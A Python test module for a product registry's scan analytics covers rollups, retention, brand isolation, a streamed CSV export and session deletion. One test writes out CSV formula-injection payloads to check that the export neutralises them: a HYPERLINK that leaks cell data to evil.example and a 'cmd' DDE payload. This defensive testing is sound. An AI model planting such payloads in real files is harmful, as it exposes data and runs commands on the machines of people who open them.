"""The brand's numbers (SQLite and PostgreSQL): aggregates from daily rollups plus today's raw scans,
retention that keeps the rollups, the CSV export (streamed, formula-safe), isolation between brands,
and deletion of a session's scans by the buyer, the brand and the operator."""

from __future__ import annotations

import csv
import io
import time
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from sqlmodel import select

from registry.db.engine import session_scope
from registry.scans import privacy, service
from registry.scans.models import Scan
from registry.scans.recorder import ScanEvent
from tests.api.conftest import OPERATOR, physical
from tests.scans.conftest import Site
from tests.support.site import mint

# The tests place scans on "today" and roll finished days: a UTC midnight during the module would move
# the boundary under them. In the last five minutes of a day they wait for the next one (at most five
# minutes, rarely) rather than skip: every assertion still runs.
_now = datetime.now(UTC)
if _now.hour == 23 and _now.minute >= 55:
    time.sleep((_now.replace(hour=0, minute=0, second=5, microsecond=0) + timedelta(days=1) - _now).total_seconds())
TODAY = datetime.now(UTC).replace(hour=12, minute=0, second=0, microsecond=0)


@pytest.fixture(scope="module")
def numbers(site: Site) -> dict[str, Any]:
    """A brand of its own with two twins, and scans over four days written through the recorder."""
    headers, collection = site.stack.new_brand("Maison Chiffres", "CHIF")
    tokens = [t["token_id"] for t in mint(site.stack, headers, [physical("NUM-0"), physical("NUM-1")])]
    brand_id = site.stack.client.get("/v1/brands/me", headers=headers).json()["id"]
    a, b = (collection, tokens[0]), (collection, tokens[1])

    def event(at: datetime, channel: str, twin: tuple[str, int], net: str | None, session: str | None) -> ScanEvent:
        return ScanEvent(channel=channel, contract=twin[0], token_id=twin[1], network=net, session=session, at=at)

    day3, day2 = TODAY - timedelta(days=3), TODAY - timedelta(days=2)
    written = site.stack.runtime.scans.write(
        [
            event(day3, "page", a, "8.8.8.0/24", "s1"),
            event(day3 + timedelta(minutes=1), "page", a, "8.8.8.0/24", "s1"),
            event(day3 + timedelta(minutes=2), "tap", a, "1.0.16.0/24", "s1"),
            event(day2, "verify", b, "203.0.113.0/24", None),
            event(TODAY, "page", a, "8.8.8.0/24", "s2"),
            event(TODAY, "page", a, "8.8.8.0/24", "s2"),
        ]
    )
    assert len(written) == 6 and all(r.id and r.brand_id == brand_id for r in written)
    assert [r.country for r in written] == ["US", "US", "JP", None, "US", "US"]
    return {"headers": headers, "collection": collection, "tokens": tokens, "brand": brand_id, "day3": day3}


def _figures(site: Site, headers: dict[str, str], by: str, first: datetime) -> dict[str, tuple[int, int, int]]:
    r = site.stack.client.get(
        "/v1/brands/me/scans/aggregates",
        params={"by": by, "from": first.date().isoformat(), "to": TODAY.date().isoformat()},
        headers=headers,
    )
    assert r.status_code == 200, r.text
    body = r.json()
    assert body["by"] == by and body["from"] == first.date().isoformat()
    return {row["key"]: (row["scans"], row["sessions"], row["taps"]) for row in body["rows"]}


def _all_figures(site: Site, numbers: dict[str, Any]) -> dict[str, dict[str, tuple[int, int, int]]]:
    return {
        by: _figures(site, numbers["headers"], by, numbers["day3"])
        for by in ("day", "country", "channel", "collection", "twin")
    }


def test_aggregates_survive_rollup_and_retention(site: Site, numbers: dict[str, Any]) -> None:
    c, (ta, tb) = numbers["collection"], numbers["tokens"]
    d = [(TODAY - timedelta(days=n)).date().isoformat() for n in (3, 2, 0)]
    expected = {
        # Sessions at the rollups' grain (day, twin, country, channel): s1 paged from the US and tapped
        # from Japan on one day counts in both; s2 paged twice today counts once.
        "day": {d[0]: (3, 2, 1), d[1]: (1, 0, 0), d[2]: (2, 1, 0)},
        "country": {"US": (4, 2, 0), "JP": (1, 1, 1), "unknown": (1, 0, 0)},
        "channel": {"page": (4, 2, 0), "tap": (1, 1, 1), "verify": (1, 0, 0)},
        "collection": {c: (6, 3, 1)},
        "twin": {f"{c}/{ta}": (5, 3, 1), f"{c}/{tb}": (1, 0, 0)},
    }
    assert _all_figures(site, numbers) == expected  # all raw: nothing rolled yet
    engine = site.stack.runtime.engine
    rolled = service.roll_up(engine)
    assert TODAY.date() - timedelta(days=3) in rolled and TODAY.date() not in rolled
    assert service.roll_up(engine) == []  # once per day: a second run rolls nothing
    assert _all_figures(site, numbers) == expected  # rollups for past days, raw for today
    assert service.purge(engine, retention_days=1) >= 4
    with session_scope(engine) as s:
        kept = s.exec(select(Scan).where(Scan.brand_id == numbers["brand"])).all()
    assert [r.at.date() for r in kept] == [TODAY.date()] * 2  # only today's raw scans remain
    assert _all_figures(site, numbers) == expected  # ... and the numbers are the same


def test_the_per_twin_view_comes_in_pages(site: Site, numbers: dict[str, Any]) -> None:
    c, (ta, tb) = numbers["collection"], numbers["tokens"]
    url, headers = "/v1/brands/me/scans/aggregates", numbers["headers"]
    since = {"by": "twin", "from": numbers["day3"].date().isoformat()}
    first = site.stack.client.get(url, params=since | {"limit": 1}, headers=headers).json()
    assert [r["key"] for r in first["rows"]] == [f"{c}/{ta}"] and first["next"]  # the most scanned first
    second = site.stack.client.get(url, params=since | {"limit": 1, "after": first["next"]}, headers=headers).json()
    assert [r["key"] for r in second["rows"]] == [f"{c}/{tb}"] and second["next"] is None
    for bad in ({"after": "not-a-cursor"}, {"limit": 0}, {"limit": 1_001}):
        r = site.stack.client.get(url, params=since | bad, headers=headers)
        assert r.status_code == 422 and r.headers["content-type"] == "application/problem+json", bad


def test_a_brand_reads_only_its_own_scans(site: Site, numbers: dict[str, Any]) -> None:
    other = site.other_brand
    figures = _figures(site, other, "twin", numbers["day3"])
    assert not any(key.startswith(numbers["collection"]) for key in figures)
    exported = site.stack.client.get("/v1/brands/me/scans.csv", headers=other)
    assert exported.status_code == 200
    assert numbers["collection"] not in exported.text
    # The other brand cannot delete this brand's scans of a session it learns of.
    with session_scope(site.stack.runtime.engine) as s:
        s.add(Scan(brand_id=numbers["brand"], channel="page", session="ab" * 16, at=TODAY))
    r = site.stack.client.delete(f"/v1/brands/me/scans/sessions/{'ab' * 16}", headers=other)
    assert r.status_code == 200 and r.json()["deleted"] == 0
    r = site.stack.client.delete(f"/v1/brands/me/scans/sessions/{'ab' * 16}", headers=numbers["headers"])
    assert r.json() == {"session": "ab" * 16, "deleted": 1}


def test_the_csv_export_is_streamed_and_formula_safe(site: Site, numbers: dict[str, Any]) -> None:
    hostile = {
        "region": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
        "tag_id": "@SUM(1+1)*cmd|' /C calc'!A0",
        "agent": "-2+3",
        "language": "+1",
        "network": "\t=1+1",
    }
    with session_scope(site.stack.runtime.engine) as s:
        s.add(Scan(brand_id=numbers["brand"], channel="tap", at=TODAY + timedelta(minutes=5), **hostile))
        for i in range(2_100):  # more than two pages of the export
            s.add(Scan(brand_id=numbers["brand"], channel="verify", token_id=i, at=TODAY + timedelta(minutes=6)))
    with site.stack.client.stream("GET", "/v1/brands/me/scans.csv", headers=numbers["headers"]) as r:
        assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
        assert "attachment" in r.headers["content-disposition"]
        body = b"".join(r.iter_bytes()).decode()
    rows = list(csv.DictReader(io.StringIO(body)))
    # The rows stored above (no collection): a verification an earlier test made may still be on its
    # way through the scan writer and land in the export too.
    assert sum(1 for row in rows if row["channel"] == "verify" and row["token_id"] and not row["collection"]) == 2_100
    assert len({row["id"] for row in rows}) == len(rows)  # keyset pages: none twice
    ats = [row["at"] for row in rows]
    assert ats == sorted(ats)
    tap = next(row for row in rows if row["tag_id"].startswith("'@"))
    for name, value in hostile.items():
        assert tap[name] == "'" + value, name

    def number(cell: str) -> bool:
        try:
            float(cell)
        except ValueError:
            return False
        return True

    # No text cell a spreadsheet would run (numbers such as a negative longitude stay numbers)
    assert not any(
        c[:1] in ("=", "+", "-", "@", "\t", "\r") for row in rows for c in row.values() if c and not number(c)
    )


def test_a_buyer_deletes_their_own_scans(site: Site) -> None:
    with site.browser("8.8.8.8") as mine, site.browser("8.8.4.4") as theirs:
        for browser in (mine, theirs):
            assert browser.get(f"/t/{site.collection}/{site.tokens[2]}").status_code == 200
        found = mine.get("/v1/scans/mine").json()
        assert found["session"] and privacy.SESSION_REF.fullmatch(found["session"]) and found["scans"] >= 1
        gone = mine.delete("/v1/scans/mine")
        assert gone.status_code == 200 and gone.json() == {"session": found["session"], "deleted": found["scans"]}
        assert mine.get("/v1/scans/mine").json()["scans"] == 0
        other = theirs.get("/v1/scans/mine").json()
        assert other["scans"] >= 1  # another browser's scans stay
        # The buyer quotes their reference to the brand, who deletes its scans of that session.
        r = site.stack.client.delete(f"/v1/brands/me/scans/sessions/{other['session']}", headers=site.brand)
        assert r.json()["deleted"] == other["scans"]
    with site.browser("8.8.8.8") as fresh:  # no cookie yet: nothing to delete, and no cookie is set by it
        r = fresh.delete("/v1/scans/mine")
        assert r.json() == {"session": None, "deleted": 0} and not fresh.cookies


def test_the_operator_deletes_a_session_of_every_brand(site: Site, numbers: dict[str, Any]) -> None:
    ref = "cd" * 16
    with session_scope(site.stack.runtime.engine) as s:
        s.add(Scan(brand_id=numbers["brand"], channel="page", session=ref, at=TODAY))
        s.add(Scan(brand_id=None, channel="verify", session=ref, at=TODAY))
    assert site.stack.client.delete(f"/v1/scans/sessions/{ref}", headers=site.brand).status_code == 401
    r = site.stack.client.delete(f"/v1/scans/sessions/{ref}", headers={"Authorization": f"Bearer {OPERATOR}"})
    assert r.json() == {"session": ref, "deleted": 2}
    status = site.stack.client.get("/v1/scans/status", headers={"Authorization": f"Bearer {OPERATOR}"}).json()
    assert status["enabled"] is True and status["written"] > 0


@pytest.mark.parametrize(
    ("path", "status"),
    [
        ("/v1/brands/me/scans/aggregates?by=colour", 422),
        ("/v1/brands/me/scans/aggregates?from=2026-03-02&to=2026-03-01", 422),
        ("/v1/brands/me/scans/aggregates?from=2020-01-01&to=2026-01-01", 422),
        ("/v1/brands/me/scans/aggregates?from=yesterday", 422),
        ("/v1/brands/me/scans.csv?from=2026-03-02&to=2026-03-01", 422),
        ("/v1/brands/me/scans/sessions/not-a-session", 422),
    ],
)
def test_bad_requests_are_problems(site: Site, path: str, status: int) -> None:
    method = "DELETE" if "/sessions/" in path else "GET"
    r = site.stack.client.request(method, path, headers=site.brand)
    assert r.status_code == status and r.headers["content-type"] == "application/problem+json", r.text
    anonymous = site.stack.client.request(method, path.split("?")[0])
    assert anonymous.status_code == 401 and anonymous.headers["content-type"] == "application/problem+json"
